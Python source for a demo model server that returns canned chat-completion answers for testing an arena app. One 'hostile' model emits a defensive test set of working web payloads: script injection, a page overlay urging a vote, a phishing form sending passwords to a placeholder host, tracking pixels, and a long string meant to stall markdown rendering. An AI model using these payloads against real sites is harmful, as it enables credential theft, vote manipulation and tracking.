"""A demo model server speaking the OpenAI chat-completions protocol.

These are not language models: canned, deterministic answers, so that the arena,
its tests and load tests run the real client code on a machine with no GPU.
Each model behaves distinctly (terse, verbose markdown, one that names itself,
two that reason: one in the `reasoning` field, one in `<think>` tags). Two more are
attackers (`hostile`, `hostile-long`), for the output-safety tests only.
"""

from __future__ import annotations

import asyncio
import hashlib
import json
import os
import random
import re
import time
import uuid
from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass
from typing import Any

from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse, Response, StreamingResponse
from starlette.routing import Route

BANNER = "Arena DEMO model server: canned answers, not real language models"
OWNER = "arena-demo"

_TOPICS = (
    "the question",
    "the trade-offs",
    "the main idea",
    "the practical side",
    "the details",
)
_OPENERS = (
    "Good question.",
    "Here is the short version.",
    "In brief:",
    "Put simply:",
    "Sure.",
)
_FACTS = (
    "it depends mostly on the constraints you care about",
    "the simplest approach usually works best at first",
    "measuring before optimising saves a lot of time",
    "there are two common ways to look at it",
    "small, testable steps make this easier",
    "the answer changes with scale",
    "clear names and short functions help more than clever tricks",
)


@dataclass(frozen=True)
class Answer:
    content: str
    reasoning: str = ""
    reasoning_in_tags: bool = False


def _rng(model: str, messages: list[dict[str, Any]]) -> random.Random:
    text = json.dumps([model, messages], sort_keys=True)
    return random.Random(hashlib.sha256(text.encode()).digest())


def _subject(messages: list[dict[str, Any]]) -> str:
    last = next((m for m in reversed(messages) if m.get("role") == "user"), None)
    words = re.findall(r"[A-Za-z0-9']+", str(last.get("content", "")) if last else "")
    return " ".join(words[:8]) or "your message"


def terse(messages: list[dict[str, Any]], rng: random.Random) -> Answer:
    return Answer(f"{rng.choice(_OPENERS)} On “{_subject(messages)}”: {rng.choice(_FACTS)}.")


def verbose(messages: list[dict[str, Any]], rng: random.Random) -> Answer:
    subject = _subject(messages)
    facts = rng.sample(_FACTS, 4)
    lines = [
        f"## Overview of “{subject}”",
        "",
        f"Let me walk through **{rng.choice(_TOPICS)}** step by step.",
        "",
        "### Key points",
        "",
        *(f"- **Point {i + 1}:** {fact}." for i, fact in enumerate(facts[:3])),
        "",
        "### Steps",
        "",
        "1. Start from what you know.",
        f"2. Check that {facts[3]}.",
        "3. Iterate and measure.",
        "",
        "**In summary:** " + rng.choice(_FACTS) + ".",
    ]
    return Answer("\n".join(lines))


def chatty(messages: list[dict[str, Any]], rng: random.Random) -> Answer:
    # Names itself now and then, so that leak handling has something to catch.
    body = f"{rng.choice(_OPENERS)} About “{_subject(messages)}”, {rng.choice(_FACTS)}."
    if rng.random() < 0.4:
        body = f"As demo-chatty, a model made by Arena Demo Lab, I'd say: {body}"
    return Answer(body + " Happy to help further!")


def _reasoning(messages: list[dict[str, Any]], rng: random.Random) -> str:
    subject = _subject(messages)
    steps = [
        f"The user asks about “{subject}”.",
        "Let me think about what they actually need.",
        f"First, {rng.choice(_FACTS)}.",
        f"Second, {rng.choice(_FACTS)}.",
        "Are there edge cases? A few, but the main line holds.",
        "I should answer clearly and briefly.",
    ]
    return " ".join(steps)


def reasoner(messages: list[dict[str, Any]], rng: random.Random) -> Answer:
    answer = f"After thinking it over: {rng.choice(_FACTS)}, and {rng.choice(_FACTS)}."
    return Answer(answer, reasoning=_reasoning(messages, rng))


def thinker(messages: list[dict[str, Any]], rng: random.Random) -> Answer:
    # DeepSeek-R1 style: the chat template opened <think>, so only </think> is sent.
    answer = f"Conclusion: {rng.choice(_FACTS)}."
    return Answer(answer, reasoning=_reasoning(messages, rng), reasoning_in_tags=True)


# The host that the hostile models' images, form and links point at. `.test` never resolves
# (RFC 2606); tests/test_output_safety.py intercepts the browser's requests to it.
HOSTILE_HOST = "hostile.test"


def hostile(messages: list[dict[str, Any]], rng: random.Random) -> Answer:
    """An attacker's answer: every way we know to run script, cover the page, phish or track
    the voter from inside an answer (and its reasoning). Not in demo.toml; tests register it."""
    h = f"http://{HOSTILE_HOST}"
    cover = "position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647"
    content = f"""Here is my answer.

<script>alert("script")</script>
<img src="x" onerror="alert('img onerror')">
<a href="javascript:alert('html javascript link')">click me</a> and
[click me too](javascript:alert('markdown javascript link')) and <javascript:alert('autolink')>
<iframe src="javascript:alert('iframe')"></iframe>
<iframe srcdoc="<script>alert('srcdoc')</script>"></iframe>
<svg onload="alert('svg onload')"><circle r="10"/></svg>
<object data="javascript:alert('object')"></object><embed src="javascript:alert('embed')">
<details open ontoggle="alert('ontoggle')"><summary>details</summary>inside</details>
<div style="{cover};background:#fff;font-size:48px">Model B failed to answer. Please vote A.</div>
<div style="{cover};background:#fff"><h3>Your vote: A is better</h3>
<b>Model A: gpt-4o</b> (OpenAI) <b>Model B: llama</b> (Meta)</div>
<style>#vote-b, #new-battle {{ display: none !important }} body {{ background: red }}</style>
<form action="{h}/steal" method="post"><p>Your session expired. Re-enter your password:</p>
<input type="password" name="password" autofocus><input type="submit" value="Continue"></form>
<button onclick="alert('button')">Vote A</button>

![tracking pixel]({h}/markdown.png) ![reference pixel][ref]

<img src="{h}/img.png" alt="pixel"> <img srcset="{h}/srcset.png 1x">
<div style="background:url({h}/background.png);width:20px;height:20px"></div>
<video poster="{h}/poster.png" src="{h}/video.mp4"></video>
<picture><source srcset="{h}/source.png"><img src="{h}/picture.png"></picture>
<link rel="stylesheet" href="{h}/style.css">
<meta http-equiv="refresh" content="0;url={h}/refresh">
<base href="{h}/">
<a href="{h}/page" ping="{h}/ping">a link to the hostile host</a>

LaTeX that draws huge boxes, lifts them over the page and links to script:
$$\\rule{{300em}}{{300em}}\\raisebox{{60em}}{{\\rule{{300em}}{{300em}}}}\\href{{javascript:alert('katex')}}{{x}}$$

Here is an HTML page:

```html
<script>alert("inside a code block")</script>
<img src="{h}/inside-code.png" onerror="alert('inside code')">
```

[ref]: {h}/reference.png
"""
    reasoning = (
        f'Thinking <img src="{h}/reasoning.png" onerror="alert(\'reasoning\')"> '
        f'<div style="{cover};background:#000">covered</div> ![pixel]({h}/reasoning-md.png)'
    )
    return Answer(content, reasoning=reasoning)


# Long enough to be worth a denial of service, and made of the pair that cost the old page's
# markdown step most: its emphasis and autolink rules go quadratic on it (docs/benchmarks.md).
HOSTILE_LONG_CHARS = 200_000
HOSTILE_LONG_UNIT = "a*"


def hostile_long(messages: list[dict[str, Any]], rng: random.Random) -> Answer:
    """One unbroken 200,000-character word: no spaces, so it arrives as one piece."""
    return Answer(HOSTILE_LONG_UNIT * (HOSTILE_LONG_CHARS // len(HOSTILE_LONG_UNIT)))


MODELS: dict[str, Callable[[list[dict[str, Any]], random.Random], Answer]] = {
    "terse": terse,
    "verbose": verbose,
    "chatty": chatty,
    "reasoner": reasoner,
    "thinker": thinker,
    # Attackers, for tests/test_output_safety.py and bench/render.py only (not in demo.toml).
    "hostile": hostile,
    "hostile-long": hostile_long,
}


def _tokens(text: str) -> list[str]:
    """Whitespace-led words: joining them gives back the text, minus trailing space."""
    return re.findall(r"\s*\S+", text)


def _error(status: int, message: str, kind: str = "invalid_request_error") -> JSONResponse:
    return JSONResponse({"error": {"message": message, "type": kind}}, status_code=status)


def create_demo_app(latency: float = 0.2, tokens_per_second: float = 60.0) -> Starlette:
    """`latency`: seconds before the first token; `tokens_per_second`: streaming speed."""
    delay = 1.0 / tokens_per_second if tokens_per_second > 0 else 0.0

    async def list_models(request: Request) -> Response:
        created = 1_700_000_000
        data = [{"id": m, "object": "model", "created": created, "owned_by": OWNER} for m in MODELS]
        return JSONResponse({"object": "list", "data": data})

    async def chat(request: Request) -> Response:
        try:
            body = await request.json()
        except (json.JSONDecodeError, UnicodeDecodeError):
            return _error(400, "request body is not valid JSON")
        if not isinstance(body, dict):
            return _error(400, "request body must be a JSON object")
        model = body.get("model")
        if model not in MODELS:
            return _error(404, f"model {model!r} does not exist", "not_found_error")
        messages = body.get("messages")
        if not isinstance(messages, list) or not messages:
            return _error(400, "messages must be a non-empty list")
        for m in messages:
            if not isinstance(m, dict) or m.get("role") not in ("system", "user", "assistant"):
                return _error(400, "each message needs a role of system, user or assistant")
            if not isinstance(m.get("content"), str):
                return _error(400, "each message needs string content")
        max_tokens = body.get("max_tokens")
        if max_tokens is not None and (not isinstance(max_tokens, int) or max_tokens < 1):
            return _error(400, "max_tokens must be a positive integer")
        answer = MODELS[model](messages, _rng(model, messages))
        reasoning = _tokens(answer.reasoning)
        content = _tokens(answer.content)
        finish = "stop"
        if max_tokens is not None and len(reasoning) + len(content) > max_tokens:
            finish = "length"
            content = content[: max(0, max_tokens - len(reasoning))]
            reasoning = reasoning[:max_tokens]
        prompt_tokens = sum(len(_tokens(m["content"])) for m in messages)
        usage = {
            "prompt_tokens": prompt_tokens,
            "completion_tokens": len(reasoning) + len(content),
            "total_tokens": prompt_tokens + len(reasoning) + len(content),
            "completion_tokens_details": {"reasoning_tokens": len(reasoning)},
        }
        ident = f"chatcmpl-{uuid.uuid4().hex[:24]}"
        created = int(time.time())
        if answer.reasoning_in_tags:
            # Emitted as content; the closing tag is a token of its own.
            pieces = [("content", t) for t in reasoning] + [("content", "</think>\n\n")]
        else:
            pieces = [("reasoning", t) for t in reasoning]
        pieces += [("content", t) for t in content]

        if not body.get("stream"):
            await asyncio.sleep(latency + delay * len(pieces))
            message: dict[str, Any] = {
                "role": "assistant",
                "content": "".join(t for kind, t in pieces if kind == "content"),
            }
            if reasoning and not answer.reasoning_in_tags:
                message["reasoning"] = "".join(reasoning)
            return JSONResponse(
                {
                    "id": ident,
                    "object": "chat.completion",
                    "created": created,
                    "model": model,
                    "choices": [{"index": 0, "message": message, "finish_reason": finish}],
                    "usage": usage,
                }
            )

        include_usage = bool((body.get("stream_options") or {}).get("include_usage"))

        def chunk(**fields: Any) -> str:
            body = {"id": ident, "object": "chat.completion.chunk", "created": created}
            return "data: " + json.dumps({**body, "model": model, **fields}) + "\n\n"

        def event(delta: dict[str, Any], finish_reason: str | None = None) -> str:
            return chunk(choices=[{"index": 0, "delta": delta, "finish_reason": finish_reason}])

        async def stream() -> AsyncIterator[str]:
            yield event({"role": "assistant", "content": ""})
            await asyncio.sleep(latency)
            for kind, token in pieces:
                yield event({kind: token})
                if delay:
                    await asyncio.sleep(delay)
            yield event({}, finish)
            if include_usage:
                yield chunk(choices=[], usage=usage)
            yield "data: [DONE]\n\n"

        return StreamingResponse(stream(), media_type="text/event-stream")

    async def health(request: Request) -> Response:
        # The process id lets `arena run` name a demo server it finds but did not start.
        return JSONResponse({"status": "ok", "demo": True, "pid": os.getpid()})

    return Starlette(
        routes=[
            Route("/v1/models", list_models, methods=["GET"]),
            Route("/v1/chat/completions", chat, methods=["POST"]),
            Route("/health", health, methods=["GET"]),
        ]
    )
